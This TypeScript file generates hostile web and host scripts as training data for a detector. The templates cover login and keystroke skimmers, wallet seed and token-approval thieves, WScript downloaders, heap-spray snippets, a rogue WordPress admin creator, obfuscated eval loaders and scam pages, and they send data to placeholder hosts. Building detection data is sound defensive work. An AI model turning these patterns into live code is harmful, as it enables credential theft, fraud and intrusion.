// More scripts that mislead visitors, record them or break in. Training data for a detector: never run, the hosts do not
// exist, and filler replaces anything harmful.
import { base64, frame, hidden, hostile, percent } from './hostile-templates.ts'
import type { Family, Variation } from './variation.ts'

const send = (v: Variation, what: string): string =>
  v.pick([
    `fetch('${v.address()}',{method:'POST',body:${what}});`,
    `new Image().src='${v.address()}?d='+encodeURIComponent(${what});`,
    `navigator.sendBeacon('${v.address()}',${what});`,
    `var x=new XMLHttpRequest();x.open('POST','${v.address()}',true);x.send(${what});`,
    `$.post('${v.address()}',{d:${what}});`,
  ])
const go = (v: Variation): string =>
  v.pick([
    `window.location='${v.address()}';`,
    `top.location.href='${v.address()}';`,
    `window.location.replace('${v.address()}');`,
    `document.location.assign('${v.address()}');`,
  ])
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',')

export const HOSTILE_SHAPES: readonly Family[] = [
  hostile('numbers and a step', (v) => {
    const step = v.number(1, 40)
    const code = v.pick([`document.write('${frame(v).replaceAll("'", '"')}')`, go(v)])
    return `var ${v.id(0)}=[${[...code].map((c) => c.charCodeAt(0) + step).join(',')}],${v.id(1)}='';for(${v.id(2)}=0;${v.id(2)}<${v.id(0)}.length;${v.id(2)}++)${v.id(1)}+=String.fromCharCode(${v.id(0)}[${v.id(2)}]-${step});${v.pick(['eval', 'window.eval', 'setTimeout'])}(${v.id(1)});`
  }),
  hostile('code in the page', (v) => {
    const code = `document.write('${frame(v).replaceAll("'", '"')}')`
    return `<html><body><${v.pick(['div', 'textarea', 'span'])} id="${v.id(0)}" style="display:none">${codes(code).replaceAll(',', v.pick([' ', '!', 'x']))}</div><script>var ${v.id(1)}=document.getElementById('${v.id(0)}').innerHTML.split(/[ !x]/),${v.id(2)}='';for(var i=0;i<${v.id(1)}.length;i++)${v.id(2)}+=String.fromCharCode(${v.id(1)}[i]);try{${v.id(3)}()}catch(q){window['e'+'val'](${v.id(2)})}</script></body></html>`
  }),
  hostile('old trick with an error', (v) =>
    `try{${v.pick(['document.body++', 'prototype%2', 'new document()', 'window.onload()++'])}}catch(${v.id(0)}){if(020==0x10)${v.id(1)}=1;ss='';n="${[...`document.write('${frame(v).replaceAll("'", '"')}')`].map((c) => c.charCodeAt(0) * 2).join(':')}".split(':');for(i=0;i<n.length;i++)ss+=String['from'+'CharCode'](n[i]/2);window['ev'+'al'](ss)}`.replace(
      'window.onload()++',
      'window.x.y',
    ),
  ),
  hostile(
    'plug-ins counted',
    (v) =>
      `function ${v.id(0)}(n){for(var i=0;i<navigator.plugins.length;i++){if(navigator.plugins[i].name.indexOf(n)!==-1)return navigator.plugins[i].description.replace(/[^0-9,.]/g,'')}return 0}var ${v.id(1)}={j:${v.id(0)}('Java'),f:${v.id(0)}('Flash'),p:${v.id(0)}('PDF'),s:${v.id(0)}('Silverlight')};if(${v.id(1)}.${v.pick(['j', 'f'])}){document.write('<${v.pick([`object data="${v.address()}a.swf" type="application/x-shockwave-flash"></object`, `applet archive="${v.address()}x.jar" code="${v.key(4)}" width="1" height="1"></applet`, `iframe src="${v.address()}?v='+${v.id(1)}.f+'" width="1" height="1"></iframe`])}>')}else{${go(v)}}`,
  ),
  hostile(
    'document of an old reader',
    (v) =>
      `function ${v.id(0)}(){var v=app.viewerVersion.toString().replace(/\\D/g,'');if(v<${v.number(800, 950)}){var s=unescape('%u${v.key(4)}%u9090');var b=unescape('%u0c0c%u0c0c');while(b.length<0x4000)b+=b;this.mem=[];for(var i=0;i<400;i++)this.mem[i]=b+s;${v.pick(['Collab.collectEmailInfo({msg:b})', "util.printf('%45000f',0)", 'Collab.getIcon(b)'])}}}${v.id(0)}();`,
  ),
  hostile(
    'object of an old browser',
    (v) =>
      `<object classid="clsid:${v.key(8)}-${v.key(4)}-${v.key(4)}-${v.key(12)}" id="${v.id(0)}"></object><script>var b=unescape('%u0a0a%u0a0a'),p=unescape('%u${v.key(4)}%u4141');while(b.length<${v.number(3e4, 3e5)})b+=b;var m=new Array();for(var i=0;i<${v.number(100, 900)};i++)m[i]=b+p;${v.id(0)}.${v.pick(['Import', 'SetFormatLikeSample', 'ConvertFile', 'rawParse'])}(b,1);</script>`,
  ),
  hostile('host script that fetches', (v) =>
    hidden(
      v,
      `var ${v.id(0)}=WScript.CreateObject("WScript.Shell");var ${v.id(1)}=["${v.address()}","${v.address()}"];for(var i=0;i<2;i++){try{var h=WScript.CreateObject("${v.pick(['MSXML2.XMLHTTP', 'WinHttp.WinHttpRequest.5.1', 'MSXML2.ServerXMLHTTP'])}");h.open("GET",${v.id(1)}[i],false);h.send();var f=${v.id(0)}.ExpandEnvironmentStrings("%TEMP%")+"/${v.key(6)}.exe";var a=WScript.CreateObject("ADODB.Stream");a.open();a.type=1;a.write(h.responseBody);a.saveToFile(f,2);a.close();${v.id(0)}.Run("filler",0,false);break}catch(e){}}`,
    ),
  ),
  hostile(
    'words of a host script cut up',
    (v) =>
      `var ${v.id(0)}="WScr"+"ipt.Sh"+"ell",${v.id(1)}="ADO"+"DB.Str"+"eam",${v.id(2)}="MSX"+"ML2.XML"+"HTTP";var a=this["Acti"+"veXObj"+"ect"];var s=new a(${v.id(0)}),d=new a(${v.id(1)}),x=new a(${v.id(2)});x["op"+"en"]("G"+"ET","${v.address()}",0);x["se"+"nd"]();d["op"+"en"]();d["ty"+"pe"]=1;d["wri"+"te"](x["Respon"+"seBody"]);d["saveTo"+"File"]("filler",2);s["R"+"un"]("filler");`,
  ),
  hostile(
    'number of visits',
    (v) =>
      `(function(){var k='${v.key(6)}',n=+(localStorage.getItem(k)||0);localStorage.setItem(k,n+1);if(n${v.pick(['<1', '%3===0', '===0'])}&&!/bot|crawl|spider/i.test(navigator.userAgent)&&${v.pick(['screen.width>0', 'document.referrer', "navigator.platform.indexOf('Win')===0"])}){${hidden(v, v.pick([`setTimeout(function(){${go(v)}},${v.number(1, 5)}00);`, go(v)]))}}})();`,
  ),
  hostile(
    'search words sold',
    (v) =>
      `var ${v.id(0)}=document.referrer,${v.id(1)}=['google','bing','yahoo','aol','ask','live'];for(var i in ${v.id(1)}){if(${v.id(0)}.toLowerCase().indexOf(${v.id(1)}[i]+'.')>0){var q=(${v.id(0)}.match(/[?&][qp]=([^&]+)/)||[])[1]||'';${v.pick([`location.href='${v.address()}?q='+q;`, `document.write('<script src="${v.address()}?k='+q+'"></scr'+'ipt>');`, `top.location='${v.address()}?se='+${v.id(1)}[i];`])}break}}`,
  ),
  hostile(
    'links hidden from people',
    (v) =>
      `(function(){var h='${Array.from({ length: v.number(4, 20) }, () => `<a href="${v.address()}">${v.pick(['cheap pills', 'payday loan', 'online casino', 'replica watches', 'essay writing', 'slot gacor'])}</a>`).join(' ')}';${v.pick([`document.write('<div style="position:absolute;left:-${v.number(2000, 9999)}px">'+h+'</div>')`, `var d=document.createElement('div');d.style.cssText='height:0;overflow:hidden';d.innerHTML=h;document.body.appendChild(d)`, `document.body.innerHTML+='<marquee style="visibility:hidden;width:1px;height:1px">'+h+'</marquee>'`])}})();`,
  ),
  hostile(
    'back button taken',
    (v) =>
      `history.pushState({},'',location.href);history.pushState({},'',location.href);window.addEventListener('popstate',function(){${go(v)}});document.addEventListener('${v.pick(['click', 'mouseup', 'touchend'])}',function(){${v.pick([`window.open('${v.address()}')`, `open(atob('${base64(v.address())}'),'_blank').blur()`])}},{once:true});`,
  ),
  hostile(
    'clicks on advertisements',
    (v) =>
      `var ${v.id(0)}=document.createElement('iframe');${v.id(0)}.src='${v.address()}';${v.id(0)}.style.cssText='opacity:0;position:absolute;z-index:9999;width:${v.number(20, 200)}px;height:${v.number(20, 80)}px';document.body.appendChild(${v.id(0)});document.addEventListener('mousemove',function(e){${v.id(0)}.style.left=(e.pageX-10)+'px';${v.id(0)}.style.top=(e.pageY-10)+'px'});`,
  ),
  hostile(
    'log-in fields recorded',
    (v) =>
      `document.querySelectorAll('${v.pick(['#loginform', 'form', '.login-form', '#user-login'])}').forEach(function(f){f.addEventListener('submit',function(){var ${v.id(0)}=f.querySelector('[type=password]').value+'::'+${v.pick(["f.querySelector('[name=log]').value", "document.getElementById('user_login').value", "f.querySelector('[type=text],[type=email]').value"])}+'::'+location.hostname;${send(v, v.id(0))}})});`,
  ),
  hostile(
    'page of a bank copied',
    (v) =>
      `<!DOCTYPE html><html><head><title>Sign in</title></head><body><form onsubmit="return s(this)"><input type="email" name="${v.pick(['login', 'email', 'user'])}"><input type="password" name="pw"></form><script>var n=0;function s(f){var ${v.id(0)}=JSON.stringify({u:f.elements[0].value,p:f.pw.value,a:navigator.userAgent});${send(v, v.id(0))}if(++n<2){alert('Wrong password');f.pw.value='';return false}${go(v)}return false}${v.chance(0.5) ? 'document.forms[0].elements[0].value=location.hash.slice(1);document.oncontextmenu=function(){return false};' : ''}</script></body></html>`,
  ),
  hostile(
    'page in a page decoded',
    (v) =>
      `document.${v.pick(['write', 'documentElement.innerHTML='])}${'('}${v.pick([`atob('${base64(`<form action="${v.address()}" method="post"><input type="password" name="p"></form>`)}')`, `unescape('${percent(`<form action="${v.address()}" method=post><input name=email><input type=password name=pass></form>`)}')`])});`,
  ),
  hostile(
    'everything typed or pasted',
    (v) =>
      `var ${v.id(0)}=[];['keydown','paste','copy','change'].forEach(function(t){${v.pick(['document', 'window'])}.addEventListener(t,function(e){${v.id(0)}.push([t,e.key||(e.clipboardData&&e.clipboardData.getData('text'))||e.target.value,e.target.name])},true)});${v.pick([`setInterval(function(){if(${v.id(0)}.length){var d=JSON.stringify(${v.id(0)}.splice(0));${send(v, 'd')}}},${v.number(1, 20)}000);`, `window.addEventListener('beforeunload',function(){var d=JSON.stringify(${v.id(0)});${send(v, 'd')}});`])}`,
  ),
  hostile(
    'administrator used',
    (v) =>
      `jQuery.get('/wp-admin/user-new.php',function(h){var n=/_wpnonce_create-user" value="([^"]+)"/.exec(h);if(n){jQuery.post('/wp-admin/user-new.php',{action:'createuser','_wpnonce_create-user':n[1],user_login:'${v.key(6)}',email:'${v.key(4)}@example.org',pass1:'${v.key(8)}',role:'administrator'},function(){${send(v, 'location.host')}})}});`,
  ),
  hostile(
    'token read and passed on',
    (v) =>
      `${v.pick(['fetch', 'window.fetch'])}('${v.pick(['/account', '/api/me', '/admin', '/settings/security'])}',{credentials:'include'}).then(function(r){return r.text()}).then(function(t){var ${v.id(0)}=btoa(${v.pick(['t', 'document.cookie+t.slice(0,500)', '(t.match(/token" value="([^"]+)/)||[])[1]+document.cookie'])});${send(v, v.id(0))}});`,
  ),
  hostile(
    'words of a wallet asked for',
    (v) =>
      `document.getElementById('${v.pick(['restore', 'import', 'connect'])}').onclick=function(){var ${v.id(0)}=[].map.call(document.querySelectorAll('${v.pick(['.word', 'input.seed', 'textarea#phrase'])}'),function(i){return i.value}).join(' ');if(${v.id(0)}.split(' ').length>=12){${send(v, `'${v.pick(['seed phrase: ', 'mnemonic=', 'wallet '])}'+${v.id(0)}`)}alert('Error. Try again later')}};`,
  ),
  hostile(
    'leave to spend asked for',
    (v) =>
      `const ${v.id(0)}='0x${v.key(40)}';async function ${v.id(1)}(){const p=new ethers.providers.Web3Provider(window.ethereum);await p.send('eth_requestAccounts',[]);const s=p.getSigner();for(const t of ${v.id(2)}){const c=new ethers.Contract(t,['function ${v.pick(['approve(address,uint256)', 'setApprovalForAll(address,bool)', 'increaseAllowance(address,uint256)'])}'],s);await c.${v.pick(['approve', 'setApprovalForAll'])}(${v.id(0)},ethers.constants.MaxUint256)}${send(v, 'await s.getAddress()')}}const ${v.id(2)}=['0x${v.key(40)}','0x${v.key(40)}'];document.querySelector('.${v.pick(['claim', 'mint', 'airdrop'])}').onclick=${v.id(1)};`,
  ),
  hostile(
    'address in a field exchanged',
    (v) =>
      `setInterval(function(){document.querySelectorAll('${v.pick(['input', 'code', 'p,span,input'])}').forEach(function(e){var t=e.value||e.textContent;if(/^(0x[0-9a-f]{40}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[A-Za-z1-9]{33})$/i.test(t.trim())){${v.pick([`e.value='0x${v.key(40)}'`, `e.textContent='${v.key(34)}'`, `navigator.clipboard.writeText('0x${v.key(40)}')`])}}})},${v.number(2, 20) * 100});`,
  ),
  hostile(
    'pages of notices',
    (v) =>
      `var ${v.id(0)}='${v.key(30)}';navigator.serviceWorker.register('/${v.key(5)}.js').then(function(r){return Notification.requestPermission().then(function(p){if(p!=='granted'){${v.pick([go(v), "document.body.innerHTML='<h1>Press Allow to confirm that you are not a robot</h1>';setTimeout(arguments.callee,500);"])}}else return r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:${v.id(0)}})})}).then(function(s){${send(v, 'JSON.stringify(s)')}${go(v)}});`,
  ),
  hostile(
    'warning with a telephone number',
    (v) =>
      `<html><body onload="document.documentElement.requestFullscreen()"><audio src="${v.pick(['alert', 'beep'])}.mp3" autoplay loop></audio><h1>${v.pick(['Windows Firewall Alert', 'Your PC is blocked', 'Security warning: Trojan detected'])}</h1><p>Call support: +1-555-01${v.number(10, 99)}</p><script>${v.pick(["window.onbeforeunload=function(){return 'Your data will be lost'}", 'document.onkeydown=function(e){e.preventDefault();return false}'])};${v.pick(["setInterval(function(){alert('Do not close this page. Call support now')},1000)", 'navigator.keyboard.lock();document.onclick=function(){document.documentElement.requestFullscreen()}', "for(var i=0;i<99;i++)history.pushState(i,'','#'+i)"])};</script></body></html>`,
  ),
  hostile(
    'prize for a few answers',
    (v) =>
      `document.body.innerHTML='<div class="modal"><h2>${v.pick(['Congratulations! You have won', 'You are the visitor number 1,000,000', 'Claim your free gift card'])}</h2><p>You have <b id="t">120</b> seconds</p><button id="go">${v.pick(['Claim', 'OK', 'Spin'])}</button></div>';var t=120;setInterval(function(){document.getElementById('t').textContent=--t},1000);document.getElementById('go').onclick=function(){${go(v)}};window.onpopstate=function(){${go(v)}};history.pushState(0,'');`,
  ),
  hostile('false player', (v) =>
    v.pick([
      `document.getElementById('player').innerHTML='<img src="play.png"><p>Flash Player is out of date</p><a href="${v.address()}flashplayer_update.${v.pick(['exe', 'dmg', 'apk'])}">Install</a>';`,
      `var a=document.createElement('a');a.href='${v.address()}${v.pick(['Flash', 'Chrome', 'Codec'])}Setup.${v.pick(['exe', 'msi', 'zip'])}';a.download='';document.querySelector('video').onclick=function(){alert('Please update your player');a.click()};`,
    ]),
  ),
  hostile(
    'loader told by a name service',
    (v) =>
      `(async()=>{const r=await fetch('https://dns.example/resolve?type=TXT&name='+${v.pick(["location.hostname.split('.')[0]", `'${v.key(5).toLowerCase()}'`])}+'.example.net');const j=await r.json();const u=${v.pick(['atob(j.Answer[0].data.replace(/"/g,""))', "j.Answer[0].data.split('').reverse().join('')"])};${v.pick(['location.href=u', "const s=document.createElement('script');s.src=u;document.head.append(s)", 'new Function(u)()'])}})();`,
  ),
  hostile(
    'frame later and elsewhere',
    (v) =>
      `setTimeout(function(){var ${v.id(0)}=document.createElement(${v.pick(["'iframe'", "'ifr'+'ame'"])});${v.id(0)}.${v.pick(["setAttribute('src',", 'src=('])}${v.pick([`'${v.address()}'`, `['htt','p://','${v.key(5).toLowerCase()}.example.net/in.cgi?${v.number(1, 20)}'].join('')`, `atob('${base64(v.address())}')`])});${v.id(0)}.${v.pick(["style.cssText='position:absolute;top:-999px;width:1px;height:1px'", "style.display='none'", 'width=${1};x=0'.replace('${1}', '0')])};document.body.appendChild(${v.id(0)})},${v.number(1, 9) * 300});`,
  ),
]
